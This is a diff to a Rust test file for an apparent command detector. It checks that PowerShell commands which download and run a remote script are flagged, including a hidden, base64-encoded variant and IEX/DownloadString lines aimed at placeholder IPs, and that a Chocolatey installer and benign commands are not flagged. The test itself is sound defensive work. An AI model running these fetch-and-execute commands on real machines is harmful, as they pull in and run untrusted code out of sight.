@@ -659,7 +659,19 @@ fn a_command_that_is_written_from_its_end_is_followed() {
 }
 
 #[test]
-fn an_encoded_command_of_powershell_is_followed() {
-    let text = "powershell -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAOAAvAHMALgBwAHMAMQAnACkA";
-    assert_eq!(rules(text), [Rule::FetchRun]);
+fn what_powershell_downloads_and_evaluates_is_followed_also_where_it_is_encoded() {
+    for text in [
+        "powershell -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAOAAvAHMALgBwAHMAMQAnACkA",
+        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s.ps1')",
+        "iex (new-object system.net.webclient).downloadstring(\"http://203.0.113.9/s.ps1\")",
+    ] {
+        assert_eq!(rules(text), [Rule::FetchRun], "{text}");
+    }
+    for text in [
+        "iex (New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1')",
+        "$v = (New-Object Net.WebClient).DownloadString('http://203.0.113.9/version.txt')",
+        "powershell -Command \"Get-Content (Join-Path $env:TEMP a.txt)\"",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
 }
